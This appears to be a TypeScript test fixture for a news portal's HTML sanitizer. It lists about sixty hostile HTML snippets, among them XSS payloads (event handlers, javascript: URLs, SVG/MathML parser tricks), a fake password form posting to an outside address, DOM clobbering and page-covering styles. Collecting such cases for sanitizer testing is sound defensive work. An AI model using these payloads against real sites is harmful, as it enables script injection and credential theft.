/** Runs if anything of it is taken for script. */
const run = 'window.hacked=1';

/** What an article may try, and why that could work. */
export interface Attack {
  readonly html: string;
  readonly why: string;
}

/** The project's own attack cases, worst first within each group. */
export const attacks: readonly Attack[] = [
  // Script that a parser would run.
  {html: `<script>${run}</script>`, why: 'plain script'},
  {html: `<scr<script>ipt>${run}</scr</script>ipt>`, why: 'what is left after one cut is a script'},
  {html: `<script/src="data:,${run}"></script>`, why: 'a slash stands for a blank'},
  {html: `<img src=x onerror="${run}">`, why: 'a handler that needs no reader'},
  {html: `<img src=x onerror=&#119;indow.hacked=1>`, why: 'entities in a handler are decoded'},
  {html: `<img src="x\`y" onerror\t=\n"${run}">`, why: 'white space around the equals sign'},
  {
    html: `<p onclick="${run}" ONMOUSEOVER="${run}" onfocus="${run}" tabindex=0>a</p>`,
    why: 'handlers for readers',
  },
  {html: `<details open ontoggle="${run}">a</details>`, why: 'an element that opens by itself'},
  {
    html: `<video><source onerror="${run}"></video><audio src=x onerror="${run}">`,
    why: 'media fail by themselves',
  },
  {
    html: `<body onload="${run}"><p>a`,
    why: 'attributes of a body merge into the body that is there',
  },
  {html: `<marquee onstart="${run}">a</marquee>`, why: 'old elements have events too'},
  {html: `<p style="animation:x 1s" onanimationstart="${run}">a</p>`, why: 'events of styles'},
  {html: `<xss id=x tabindex=1 onfocus="${run}" autofocus></xss>`, why: 'focus without a reader'},
  {
    html: `<p popover id=p onbeforetoggle="${run}">a</p><button popovertarget=p>b</button>`,
    why: 'new attributes',
  },

  // Other worlds inside the markup.
  {html: `<svg onload="${run}"></svg>`, why: 'SVG has events'},
  {html: `<svg><script>${run}</script></svg>`, why: 'SVG has scripts'},
  {html: `<svg><a xlink:href="javascript:${run}"><text>a</text></a></svg>`, why: 'links of SVG'},
  {
    html: `<svg><animate attributeName=href values="javascript:${run}"/></svg>`,
    why: 'values that change later',
  },
  {
    html: `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"/></svg>`,
    why: 'SVG that brings SVG',
  },
  {html: `<math href="javascript:${run}"><mi>a</mi></math>`, why: 'MathML has links'},
  {
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${run}>">`,
    why: 'the second parsing differs from the first',
  },
  {
    html: `<svg></p><style><a id="</style><img src=x onerror=${run}>">`,
    why: 'style is text in HTML and elements in SVG',
  },
  {
    html: `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
    why: 'forms that the parser moves',
  },
  {
    html: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    why: 'noscript is text only where scripts run',
  },
  {html: `<template><img src=x onerror="${run}"></template>`, why: 'a template hides its content'},
  {
    html: `<div><template shadowrootmode=open><img src=x onerror="${run}"></template></div>`,
    why: 'shadow trees in markup',
  },
  {
    html: `<textarea></textarea><title><img src=x onerror="${run}"></title>`,
    why: 'text that becomes markup when moved',
  },
  {
    html: `<xmp><img src=x onerror="${run}"></xmp><plaintext><img src=x onerror="${run}">`,
    why: 'elements whose content is text',
  },
  {html: `<!--><img src=x onerror="${run}">-->`, why: 'a comment that ends at once'},
  {html: `<![CDATA[><img src=x onerror="${run}">]]>`, why: 'CDATA is a comment in HTML'},
  {html: `<?xml-stylesheet href="javascript:${run}"?><p>a</p>`, why: 'processing instructions'},
  {
    html: `<frameset onload="${run}"><frame src="javascript:parent.${run}"></frameset>`,
    why: 'no body at all',
  },

  // Addresses.
  {html: `<a href="javascript:${run}">a</a>`, why: 'script as address'},
  {
    html: `<a href=" &#1;JaVa&#9;Scr&#10;ipt:${run}">a</a>`,
    why: 'the browser ignores control characters in addresses',
  },
  {html: `<a href="javascript&colon;${run}">a</a>`, why: 'a named colon'},
  {
    html: `<a href="\u00A0javascript:${run}">a</a>`,
    why: 'a blank that some trim and browsers do not',
  },
  {html: `<a href="data:text/html,<script>${run}</script>">a</a>`, why: 'a page in an address'},
  {
    html: `<a href="vbscript:x">a</a><a href="file:///etc/passwd">b</a><a href="blob:x">c</a>`,
    why: 'other schemes',
  },
  {
    html: `<a href="view-source:javascript:1">a</a><a href="intent://x#Intent;end">b</a>`,
    why: 'schemes of applications',
  },
  {
    html: `<img src="javascript:${run}"><img src="data:image/svg+xml,<svg onload='${run}'/>">`,
    why: 'pictures that are none',
  },
  {
    html: `<img srcset="http://192.0.2.1/a.png 2x" src=/a.png><picture><source srcset="http://192.0.2.1/b.png"></picture>`,
    why: 'addresses in lists',
  },
  {html: `<base href="http://192.0.2.1/"><a href="a">a</a>`, why: 'moves every relative address'},
  {
    html: `<a href="/a" ping="http://192.0.2.1/" download target="evil">a</a>`,
    why: 'tells another host; names a frame of the page',
  },
  {
    html: `<link rel=stylesheet href="http://192.0.2.1/a.css"><style>@import "http://192.0.2.1/b.css"</style>`,
    why: 'style sheets load and read',
  },
  {
    html: `<table background="http://192.0.2.1/a.png"><tr><td background="http://192.0.2.1/b.png">a</td></tr></table>`,
    why: 'old attributes load',
  },
  {html: `<p style="background:url(http://192.0.2.1/a.png)">a</p>`, why: 'styles load'},
  {
    html: `<video poster="http://192.0.2.1/a.png"></video><audio autoplay src="http://192.0.2.1/a.mp3"></audio>`,
    why: 'media load and play',
  },
  {
    html: `<object data="http://192.0.2.1/a"></object><embed src="http://192.0.2.1/b"><applet code=x></applet>`,
    why: 'plug-ins',
  },
  {
    html: `<iframe src="javascript:parent.${run}"></iframe><iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    why: 'frames',
  },
  {
    html: `<meta http-equiv=refresh content="0;url=javascript:${run}"><meta name=referrer content=unsafe-url>`,
    why: 'a page that goes elsewhere',
  },

  {
    html: `<p src="javascript:${run}" href="javascript:${run}" alt=a target=evil>a</p><a src=x.htc href=/a>b</a>`,
    why: 'attributes on elements that do not have them are read by scripts of the page',
  },

  // The page around.
  {
    html: `<form id=x action="http://192.0.2.1/"><input name=password autofocus><button>b</button></form>`,
    why: 'asks for passwords in the name of the portal',
  },
  {
    html: `<button form=x formaction="javascript:${run}">a</button><isindex action="javascript:${run}">`,
    why: 'buttons without a form',
  },
  {
    html: `<a id=location href="/x">a</a><img name=cookie src=/a.png><p id=documentElement>b</p>`,
    why: 'names that hide those of the document',
  },
  {
    html: `<a id=portalWidgets><a id=portalWidgets name=endpoint href="http://192.0.2.1/">`,
    why: 'names that stand for settings',
  },
  {
    html: `<p id=heading>a</p><p id=__proto__>b</p><a name=constructor>c</a>`,
    why: 'ids of the element itself, and of every object',
  },
  {html: `<p style="position:fixed;inset:0;z-index:9999">a</p>`, why: 'covers the page'},
  {
    html: `<style>:host,*{display:none!important}</style>`,
    why: 'styles of an article reach the element',
  },
  {
    html: `<p class="retry lead heading" part=heading slot=heading>a</p>`,
    why: 'looks like a part of the element',
  },
  {
    html: `<p role=alert aria-live=assertive aria-label="Mật khẩu?">a</p><p hidden inert contenteditable>b</p>`,
    why: 'speaks to screen readers as the page does',
  },
  {
    html: `<p accesskey=s data-portal="hot-news" data-toggle=modal is=x itemprop=x>a</p>`,
    why: 'scripts of the page look for these',
  },
  {
    html: `<portal-hot-news endpoint="http://192.0.2.1/"></portal-hot-news>`,
    why: 'our own elements, with another endpoint',
  },
  {
    html: `<slot name=heading></slot><dialog open>a</dialog><section><main><nav>b</nav></main></section>`,
    why: 'landmarks and layers of the page',
  },
  {html: `<bdo dir=rtl>a</bdo><p>\u202Eb`, why: 'turns the text of the page around'},
];
